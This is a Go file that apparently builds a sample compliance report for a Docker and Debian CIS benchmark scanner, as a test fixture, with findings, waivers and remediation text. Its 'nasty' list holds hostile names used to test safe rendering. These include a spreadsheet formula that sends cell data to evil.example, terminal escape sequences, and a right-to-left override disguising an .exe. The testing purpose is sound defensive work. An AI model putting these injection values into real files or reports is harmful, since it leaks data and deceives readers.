package report

import (
	"fmt"
	"strings"
	"time"
)

// nasty are names that a target could choose to harm who reads the report.
var nasty = []string{
	`=HYPERLINK("http://evil.example/"&A1,"click")`,
	"+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
	"red\x1b[31m\x1b]0;title\x07",
	"two\nlines\rand more",
	"\u202egpj.exe\u2066", "zero\u200bwidth", "c1\u009b31m", "bad\xffbyte", "\ufffe",
	"<b>&amp;_x000D_</b>", "数据库", strings.Repeat("long", 70),
}

// sample is a small machine's report with every status in it. Its score, groups
// and order are computed as for a real one.
func sample() *Report {
	r := &Report{
		SchemaVersion: SchemaVersion,
		Tool:          Tool{Name: "scantling", Version: "1.0.0"},
		Run: Run{
			ID:      "7b1d6a52-2f7e-4f0e-9a53-0c9f5a3a8f10",
			Started: time.Date(2026, 11, 20, 3, 0, 5, 0, time.UTC), Finished: time.Date(2026, 11, 20, 3, 0, 7, 400e6, time.UTC),
			User: "kim", Notices: []string{"Two settings in /etc/docker/daemon.json are not in force until the daemon is restarted: icc, log-level."},
			Kind: "server",
		},
		Targets: []Target{
			{Name: "web01", Kind: "host", Details: map[string]string{"os": "Debian GNU/Linux 12 (bookworm)", "kernel": "6.1.0-27-amd64"}},
			{Name: "unix:///run/docker.sock", Kind: "engine", Details: map[string]string{"engine": "docker", "engine_version": "28.1.1", "containers": "41", "containers_running": "40", "rootless": "false"}},
		},
		Profiles: []Profile{
			{ID: "cis-docker", Title: "CIS Docker Benchmark", Version: "1.8.0", Reference: "https://www.cisecurity.org/benchmark/docker", SHA256: strings.Repeat("4f", 32)},
			{ID: "cis-debian-12", Title: "CIS Debian Linux 12 Benchmark", Version: "1.1.0", SHA256: strings.Repeat("a0", 32)},
		},
		Facts: []Fact{
			{Name: "container", Seconds: 0.261, Objects: 41},
			{Name: "docker.daemon", Seconds: 0.004},
			{Name: "file", Key: "/etc/docker/daemon.json", Seconds: 0.0002},
			{Name: "file", Key: "/etc/shadow", Seconds: 0.0001, Unknown: []string{"open /etc/shadow: permission denied"}},
			{Name: "audit_watch", Key: "/usr/bin/dockerd", Seconds: 0.0005, Unknown: []string{"audit netlink: operation not permitted"}},
		},
	}
	r.Waivers = sampleWaivers()
	r.Answers = []Answer{
		{ID: "W-A1", Profile: "cis-debian-12", Recommendation: "5.2.7", Verdict: Pass, Comment: "looked at the last four weeks", Evidence: "share/sudo-2026-11.pdf",
			Assessor: "lee", Date: "2026-11-02", Expires: "2027-11-02", State: "in_force", Results: 1},
		{ID: "W-A2", Control: "backups_restored", Target: "web*", Verdict: Fail, Comment: "nobody has tried", Assessor: "lee", Date: "2026-11-02", Expires: "2027-11-02", State: "in_force", Results: 1},
	}
	for _, s := range joined(samplePasses(), sampleFailures(), sampleOpen()) {
		s.rec.Counts = map[string]int{}
		for _, res := range s.results {
			s.rec.Counts[res.Status]++
			res.Profile, res.ID, res.Control = s.rec.Profile, s.rec.ID, s.rec.Control
			res.Fingerprint = fmt.Sprintf("%016x", len(r.Results)+0x51ca)
			r.Results = append(r.Results, res)
		}
		r.Recommendations = append(r.Recommendations, s.rec)
	}
	Sort(r)
	for i := range r.Profiles {
		p := &r.Profiles[i]
		recs := OfProfile(r.Recommendations, p.ID)
		p.Score, p.Sections, p.Levels = Count(recs), BySection(sampleSections[p.ID], recs), ByLevel(recs)
	}
	r.Score = Count(r.Recommendations)
	return r
}

var sampleSections = map[string][]Group{
	"cis-docker": {
		{ID: "1", Title: "Host configuration"}, {ID: "1.1", Title: "The machine itself"},
		{ID: "2", Title: "Docker daemon configuration"}, {ID: "3", Title: "Files of the daemon"},
		{ID: "4", Title: "Images and the files that build them"}, {ID: "5", Title: "Containers as they run"},
		{ID: "7", Title: "Swarm"},
	},
	"cis-debian-12": {{ID: "1", Title: "First setup"}, {ID: "1.1", Title: "File systems"}, {ID: "5", Title: "Access"}},
}

// entry is a recommendation with its results.
type entry struct {
	rec     Recommendation
	results []Result
}

func joined(lists ...[]entry) []entry {
	var all []entry
	for _, l := range lists {
		all = append(all, l...)
	}
	return all
}

// entryOf names its place as "profile section id level severity".
func entryOf(where, control, title, status string, results ...Result) entry {
	var rec Recommendation
	fmt.Sscan(where, &rec.Profile, &rec.Section, &rec.ID, &rec.Level, &rec.Severity)
	rec.Control, rec.Title, rec.Status, rec.Assessment = control, title, status, "automated"
	rec.Rationale = "What this setting guards against, in a sentence or two that the control's author wrote for people who have to decide."
	rec.Remediation = "What the operator changes to meet the recommendation, without the particulars of one object."
	rec.Mappings = Mappings{"cis_controls_v8": {"4.1"}, "nist_800_53": {"CM-6", "CM-7"}}
	rec.Source = "controls/" + strings.ReplaceAll(control, "_", "/") + ".hcl:12"
	return entry{rec, results}
}

func result(target, subject, status string) Result {
	return Result{Target: target, Subject: subject, Status: status}
}

const engine, machine = "unix:///run/docker.sock", "web01"

func samplePasses() []entry {
	one := func(where, control, title string) entry {
		return entryOf(where, control, title, Pass, result(machine, "", Pass))
	}
	entries := []entry{
		one("cis-docker 2 2.2 1 medium", "daemon_icc_off", "Containers on the default bridge cannot reach each other"),
		one("cis-docker 2 2.3 1 low", "daemon_log_level", "The daemon logs at level info"),
		one("cis-docker 2 2.10 1 high", "daemon_no_insecure_registry", "No registry is used without TLS"),
		one("cis-docker 3 3.1 1 medium", "file_owner", "docker.service belongs to root"),
		one("cis-docker 3 3.2 1 medium", "file_mode", "docker.service is writable by root only"),
		one("cis-docker 3 3.15 1 medium", "file_owner", "The Docker socket belongs to root and the group docker"),
		one("cis-debian-12 1.1 1.1.1.1 1 low", "kernel_module_unavailable", "Kernel module cramfs cannot be loaded"),
		one("cis-debian-12 1.1 1.1.2.1 1 medium", "own_file_system", "/tmp is a file system of its own"),
	}
	all := entryOf("cis-docker 5 5.4 1 high", "container_no_ssh", "No container runs an SSH server", Pass)
	for i := range 41 {
		all.results = append(all.results, result(engine, fmt.Sprintf("shop-web-%d", i+1), Pass))
	}
	return append(entries, all)
}

// evidenceOf is one part of a condition that reads one fact.
func evidenceOf(expression, holds, expected, path, value, origin string) []Evidence {
	return []Evidence{{Expression: expression, Holds: holds, Expected: expected, Actual: value,
		Facts: []Read{{Path: path, Value: value, Origin: origin}}}}
}

func sampleFailures() []entry {
	return []entry{samplePrivileged(), sampleLiveRestore(), sampleMemory(), sampleMounts(), sampleNasty(), sampleShadow(), sampleSSH()}
}

func samplePrivileged() entry {
	e := entryOf("cis-docker 5 5.5 1 critical", "container_not_privileged", "No container runs privileged", Fail)
	e.rec.Disruption, e.rec.Impact = "recreate", "Programs that relied on a device or a capability stop working until it is granted by name."
	e.rec.Check = "!container.host_config.privileged"
	e.rec.Mappings = Mappings{"cis_controls_v8": {"5.4", "4.1"}, "nist_800_53": {"AC-6"}}
	for i := range 41 {
		name := fmt.Sprintf("shop-web-%d", i+1)
		res := result(engine, name, Fail)
		res.Message = name + " runs privileged"
		res.Evidence = evidenceOf("!container.host_config.privileged", "false", "false", "container.host_config.privileged", "true",
			"GET /containers/"+name+"/json HostConfig.Privileged")
		res.Remediation = "Recreate " + name + " without --privileged and grant the single capabilities it needs."
		if i%10 == 9 {
			res.Status, res.Waiver = Waived, "W-7: build agent, accepted by the risk owner until 2027-03-31"
		}
		e.results = append(e.results, res)
	}
	return e
}

func sampleLiveRestore() entry {
	e := entryOf("cis-docker 2 2.16 1 medium", "daemon_live_restore", "Containers keep running while the daemon is restarted", Fail)
	e.rec.Disruption = "reload"
	res := result(engine, "", Fail)
	res.Message = "live restore is off"
	res.Evidence = evidenceOf("docker.daemon.live_restore", "false", "true", "docker.daemon.live_restore", "false",
		"built-in default; not set in /etc/docker/daemon.json")
	res.Remediation = `Set "live-restore": true in /etc/docker/daemon.json and reload the daemon with systemctl reload docker.`
	e.results = []Result{res}
	return e
}

func sampleMemory() entry {
	e := entryOf("cis-docker 5 5.11 1 medium", "container_memory_limit", "Every container has a limit on memory", Fail)
	e.rec.Disruption = "recreate"
	for i, name := range []string{"shop-web-1", "shop-web-2", "db", "数据库-缓存", "queue"} {
		res := result(engine, name, Fail)
		value := []string{"0", "0", "0", "0", "8589934592"}[i]
		res.Evidence = evidenceOf("container.host_config.memory > 0", "false", "> 0", "container.host_config.memory", value, "GET /containers/"+name+"/json HostConfig.Memory")
		if i == 4 {
			res.Evidence = append(res.Evidence, Evidence{Expression: "container.host_config.memory <= param.most", Holds: "false",
				Expected: "<= 4294967296", Actual: value, Facts: res.Evidence[0].Facts})
		}
		res.Remediation = "Give " + name + " a limit with --memory, or mem_limit in compose.yml."
		e.results = append(e.results, res)
	}
	e.results = append(e.results, Result{Target: engine, Subject: "gone", Status: Error, Reason: "GET /containers/gone/json: context deadline exceeded"})
	return e
}

func sampleMounts() entry {
	e := entryOf("cis-docker 5 5.6 1 high", "container_no_sensitive_mount", "No sensitive directory of the host is mounted into a container", Fail)
	e.rec.Disruption = "recreate"
	res := result(engine, "monitoring-agent", Fail)
	res.Message = "monitoring-agent mounts /etc, /var/lib/docker/containers and the Docker socket"
	res.Evidence = []Evidence{{
		Expression: "none([for p in container.host_paths : p.path if covers_path(p.path, param.sensitive)])", Holds: "false", Expected: "none",
		Actual: `["/etc", "/run/docker.sock", "/var/lib/docker/containers/with/a/path/that/is/longer/than/one/line/of/eighty/columns"]`,
		Facts: []Read{{Path: "container.host_paths", Value: `[{destination = "/host/etc", path = "/etc", writable = true}, … 2 more]`,
			Origin: "GET /containers/monitoring-agent/json Mounts", Remark: "/var/run is a link to /run"}},
	}}
	res.Remediation = "Mount only what monitoring-agent needs, read-only.\n\nA socket cannot be made harmless by mounting it read-only."
	e.results = []Result{res}
	return e
}

func sampleNasty() entry {
	e := entryOf("cis-docker 5 5.29 2 low", "container_name_plain", "Names and labels are plain text", Fail)
	for _, name := range nasty {
		res := result(engine, name, Fail)
		res.Message, res.Remediation = name+" is not plain", "Rename "+name+"."
		res.Evidence = evidenceOf("matches(\"^[a-z]+$\", container.name)", "false", "a plain name", "container.name", name, "GET /containers/json Names")
		e.results = append(e.results, res)
	}
	return e
}

func sampleShadow() entry {
	e := entryOf("cis-debian-12 1.1 1.1.2.2 1 high", "mount_option", "/tmp is mounted with nosuid", Fail)
	e.rec.Disruption = "none"
	res := result(machine, "", Fail)
	res.Message = "/tmp is mounted without nosuid"
	res.Evidence = evidenceOf(`contains(mount("/tmp").options, "nosuid")`, "false", `contains(mount("/tmp").options, "nosuid")`,
		`mount("/tmp").options`, `["rw", "relatime"]`, "/proc/1/mountinfo")
	res.Remediation = "Add nosuid to /tmp in /etc/fstab:9 and run mount -o remount /tmp."
	e.results = []Result{res}
	return e
}

func sampleSSH() entry {
	e := entryOf("cis-debian-12 5 5.1.20 1 high", "sshd_no_root", "root cannot log in over SSH", Fail)
	e.rec.Disruption = "reload"
	res := result(machine, "", Fail)
	res.Message = "sshd lets root log in"
	res.Evidence = evidenceOf(`sshd.permit_root_login == "no"`, "false", `"no"`, "sshd.permit_root_login", `"yes"`, "/etc/ssh/sshd_config:33")
	res.Remediation = "Set PermitRootLogin no in /etc/ssh/sshd_config:33, then reload ssh."
	e.results = []Result{res}
	return e
}

func sampleOpen() []entry {
	return []entry{
		sampleUnseen("cis-docker 1.1 1.1.3 1 medium", "audit_watched", "Changes of the Docker daemon are audited", "audit netlink: operation not permitted", "run as root"),
		sampleUnseen("cis-docker 1.1 1.1.4 1 medium", "audit_watched", "Changes of /run/containerd are audited", "audit netlink: operation not permitted", "run as root"),
		sampleUnseen("cis-debian-12 5 5.4.2 1 high", "shadow_no_empty_password", "No account has an empty password", "open /etc/shadow: permission denied", "run as root"),
		sampleUnseen("cis-docker 1 1.2.2 1 low", "engine_current", "The engine has no known vulnerability that a newer one mends", "28.1.1+dfsg1 is a distribution's build: its version does not tell which fixes it holds", "compare with the distribution's security tracker"),
		sampleFaulty(), sampleQuestion(), sampleLogs(),
		entryOf("cis-docker 7 7.1 1 low", "swarm_managers", "A swarm has as few managers as it needs", NotApplicable,
			Result{Target: engine, Status: NotApplicable, Reason: "The engine is not part of a swarm."}),
		entryOf("cis-docker 7 7.3 1 high", "swarm_overlay_encrypted", "Overlay networks are encrypted", NotApplicable,
			Result{Target: engine, Status: NotApplicable, Reason: "The engine is not part of a swarm."}),
		sampleWaived(), sampleAnswered(Pass, "5.2.7", "sudo_log_reviewed", "W-A1"), sampleAnswered(Fail, "6.1.3", "backups_restored", "W-A2"),
	}
}

func sampleUnseen(where, control, title, why, remedy string) entry {
	e := entryOf(where, control, title, NotAssessed, Result{Target: machine, Status: NotAssessed, Reason: why, Remedy: remedy})
	e.rec.Reason = why
	return e
}

func sampleFaulty() entry {
	why := "GET /images/json: the answer ends too early"
	e := entryOf("cis-docker 4 4.1 1 high", "image_user", "Images name a user other than root", Error,
		Result{Target: engine, Status: Error, Reason: why})
	e.rec.Reason = why
	return e
}

func sampleQuestion() entry {
	e := entryOf("cis-docker 4 4.2 1 medium", "image_trusted_base", "Base images come from a trusted place", Manual,
		Result{Target: engine, Status: Manual, Reason: "A person decides this.",
			Evidence: []Evidence{{Expression: "facts to look at", Facts: []Read{{Path: "docker.info.registry_mirrors", Value: `["https://mirror.example/"]`, Origin: "GET /info"}}}}})
	e.rec.Assessment = "manual"
	e.rec.Question = "Does every image in use descend from a base image that your organisation has approved?"
	e.rec.Procedure = "List the images in use and where they came from:\n\n    docker image ls --digests\n\nCompare each repository with the list of approved bases.\nAsk the owner of an image whose base is not evident for its Dockerfile."
	return e
}

func sampleLogs() entry {
	e := entryOf("cis-docker 2 2.13 2 low", "daemon_logs_kept", "Logs of containers are kept elsewhere as well", Manual, Result{Target: engine, Status: Manual, Reason: "A person decides this."})
	e.rec.Question = "Does a log shipper carry the journal to a place that the machine's root cannot change?"
	e.rec.Procedure = "Look for rsyslog, fluent-bit or vector in the list of services, and ask for the address it sends to."
	return e
}

func sampleWaived() entry {
	e := entryOf("cis-docker 2 2.9 2 medium", "daemon_userns", "Containers run in a user namespace", Waived)
	res := result(engine, "", Waived)
	res.Message, res.Waiver = "userns-remap is not set", "W-3: shared volumes need the host's ids; accepted until 2027-01-31"
	res.Evidence = evidenceOf(`docker.daemon.userns_remap != ""`, "false", `not ""`, "docker.daemon.userns_remap", `""`, "built-in default; not set in /etc/docker/daemon.json")
	e.results = []Result{res}
	return e
}

func sampleWaivers() []Waiver {
	return []Waiver{
		{ID: "W-3", Recommendation: "2.9", Reason: "shared volumes need the host's ids", Approver: "risk board", Expires: "2027-01-31", State: WaiverInForce, Findings: 1},
		{ID: "W-5", Control: "container_memory_limit", Subject: "batch-*", Reason: "jobs are bounded by their queue", Approver: "kim", Expires: "2027-01-31", State: WaiverUnused},
		{ID: "W-6", Profile: "cis-docker", Recommendation: "5.6", Subject: "monitoring-agent", Reason: "until the agent reads the API", Approver: "risk board", Expires: "2026-10-31", State: WaiverExpired},
		{ID: "W-7", Profile: "cis-docker", Recommendation: "5.5", Subject: "shop-web-?0", Reason: "build agents", Approver: "risk board", Expires: "2027-03-31", State: WaiverInForce, Findings: 4},
	}
}

func sampleAnswered(status, id, control, answer string) entry {
	says := map[string]string{
		Pass: "answered on 2026-11-02 by lee, until 2027-11-02: looked at the last four weeks; evidence: share/sudo-2026-11.pdf",
		Fail: "answered on 2026-11-02 by lee, until 2027-11-02: nobody has tried",
	}[status]
	res := result(machine, "", status)
	res.Reason, res.Answer = says, answer
	e := entryOf("cis-debian-12 5 "+id+" 1 medium", control, "Somebody looks after what only somebody can see", status, res)
	e.rec.Assessment, e.rec.Reason, e.rec.Answered = "manual", says, 1
	e.rec.Question, e.rec.Procedure = "Does somebody look after it?", "Ask."
	return e
}
